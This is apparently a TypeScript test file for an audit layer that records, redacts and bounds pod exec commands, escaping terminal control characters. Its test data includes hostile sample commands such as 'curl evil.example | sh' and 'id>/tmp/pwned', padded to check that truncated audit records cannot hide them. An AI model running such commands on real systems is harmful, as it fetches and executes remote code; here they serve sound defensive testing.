import { createHash } from "node:crypto";
import fc from "fast-check";
import { expect, test } from "vitest";
import { runs } from "../../base/testing/runs.ts";
import { chainLine } from "../../debug-link/audit-chain.ts";
import type { Subject } from "../requests/subject.ts";
import { redactCommand } from "./redact-command.ts";
import { askedFields, fitsRecord, subjectFields } from "./subject-fields.ts";

const EXEC: Subject = { verb: "get", group: "", version: "v1", resource: "pods", subresource: "exec", name: "web-1" };
const COSTLY = [
  "\x7f",
  "\u0001",
  "\u009b",
  "\u200b",
  "\u202e",
  "\u{f0000}",
  "\u{e0001}",
  '"',
  "\\",
  "\n",
  "pwd=a@",
  "é",
];

/** What is shown as its code, as it was. */
function unescaped(text: string): string {
  return text.replaceAll(/\\u([0-9a-f]{4})/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
}

test("a command stands with its number of words and a hash that anyone can make", () => {
  const command = ["sh", "-c", "TOKEN=hunter2 ls"];
  const found = subjectFields({ ...EXEC, command });
  expect(found).toMatchObject({ name: "web-1", command: ["sh", "-c", "TOKEN=[redacted] ls"], commandWords: 3 });
  const hash = createHash("sha256").update('["sh","-c","TOKEN=hunter2 ls"]').digest("hex");
  expect(found.commandSha256).toBe(hash);
});

test("property: a record has a bound, whatever is asked for; no two commands look the same", () => {
  const text = fc.string({ unit: "binary", maxLength: 6_000 });
  fc.assert(
    fc.property(text, text, fc.array(text, { minLength: 1, maxLength: 12 }), (name, container, command) => {
      const found = subjectFields({ ...EXEC, name, container, command });
      expect(Buffer.byteLength(JSON.stringify(found))).toBeLessThan(40_000);
      const denied = askedFields({ ...EXEC, name, container, command }, { id: 1 });
      expect(Buffer.byteLength(JSON.stringify(denied))).toBeLessThan(9_000);
      expect(found.commandWords).toBe(command.length);
      const other = subjectFields({ ...EXEC, name, container, command: [...command, "x"] });
      expect(other.commandSha256).not.toBe(found.commandSha256);
    }),
    { numRuns: 20 },
  );
});

test("of a long command that is refused its beginning is kept", () => {
  const command = ["sh", "-c", "a".repeat(3_000), "b".repeat(3_000), "c"];
  const [, , third, fourth, ...more] = askedFields({ ...EXEC, command }, { id: 7 }).command as readonly string[];
  expect([third, more]).toEqual([command[2], []]);
  expect(fourth).toMatch(/^b{100,600}\[cut]$/);
});

test("property: of a request that a session passes on, the record has all; what would be cut is not passed on", () => {
  const unit = fc.oneof(
    fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
    // Each of these takes more bytes in JSON than another of its length in a query.
    fc.constantFrom(...COSTLY),
  );
  const text = fc
    .tuple(fc.string({ unit, maxLength: 40, size: "max" }), fc.nat(6_000))
    .map(([part, times]) => part.repeat(times).slice(0, 16_000));
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 8, size: "max" }), text, (command, container) => {
      const subject = { ...EXEC, command, container };
      const record = subjectFields(subject);
      const isWhole = !JSON.stringify(record).includes("[cut]");
      expect(fitsRecord(subject)).toBe(isWhole);
      if (isWhole) expect((record.command as readonly string[]).map(unescaped)).toEqual(redactCommand(command));
    }),
    { numRuns: runs(300) },
  );
});

test("each character stands whole in the record of the longest command of it that a query can hold, or the command is refused", () => {
  const character = (code: number): string => String.fromCodePoint(code).toWellFormed();
  const blocks = Array.from({ length: 0x1100 }, (_, block) =>
    Array.from({ length: 256 }, (_each, at) => character(block * 256 + at)).join(""),
  );
  const alone = Array.from({ length: 256 }, (_, code) => character(code));
  for (const part of [...blocks, ...alone]) {
    const word = part.repeat(Math.ceil(16_300 / encodeURIComponent(part).length));
    const subject = { ...EXEC, command: ["sh", "-c", word, "end"] };
    if (!fitsRecord(subject)) continue;
    const { command } = subjectFields(subject) as { readonly command: readonly string[] };
    if (command.at(-1) !== "end" || unescaped(command[2] ?? "") !== word) expect.fail(encodeURIComponent(part));
  }
});

test.each([
  ["escapes that are longer than in the query", `#${"\x7f".repeat(5_380)}\nid>/tmp/pwned`],
  ["values of secrets, and the marks in their place", `: ${"pwd=a@".repeat(2_700)}; curl evil.example | sh`],
])("a command behind %s does not run", (_, script) => {
  expect(encodeURIComponent(script).replaceAll("%40", "@").replaceAll("%3D", "=").length).toBeLessThan(16_384);
  expect(fitsRecord({ ...EXEC, command: ["sh", "-c", script] })).toBe(false);
});

test("a long command of ordinary words is passed on whole", () => {
  const padded = ["sh", "-c", `: ${"a".repeat(12_000)}; curl evil.example | sh`];
  expect(fitsRecord({ ...EXEC, command: padded })).toBe(true);
  expect(subjectFields({ ...EXEC, command: padded }).command).toEqual(padded);
});

test("a record that is cut between the halves of a character can be written", () => {
  for (const lead of ["", "a"]) {
    const text = lead + "\u{1f600}".repeat(3_000);
    const fields = askedFields({ ...EXEC, container: text, command: ["sh", text] }, { id: 1 });
    expect(JSON.stringify(fields)).not.toMatch(/\\ud[89a-f]/);
    expect(() => chainLine({ records: 0, head: "" }, new Date(0), "denied", fields)).not.toThrow();
  }
});

test("what would move a terminal's cursor, hide text or turn it around is shown as its code", () => {
  const found = subjectFields({ ...EXEC, container: "a\u009b2Kb", command: ["echo", "\u202Egnp\u009b1A\u200b\x7f"] });
  expect(found).toMatchObject({
    container: String.raw`a\u009b2Kb`,
    command: ["echo", String.raw`\u202egnp\u009b1A\u200b\u007f`],
  });
});

test("a refusal names the record of its request, or what was asked for", () => {
  expect(askedFields(EXEC, { id: 7 })).toMatchObject({ id: 7, name: "web-1" });
  expect(askedFields(EXEC, { method: "GET", target: "/x" })).not.toHaveProperty("target");
  expect(askedFields(undefined, { method: "PUT", target: "/x" })).toEqual({ method: "PUT", target: "/x" });
});
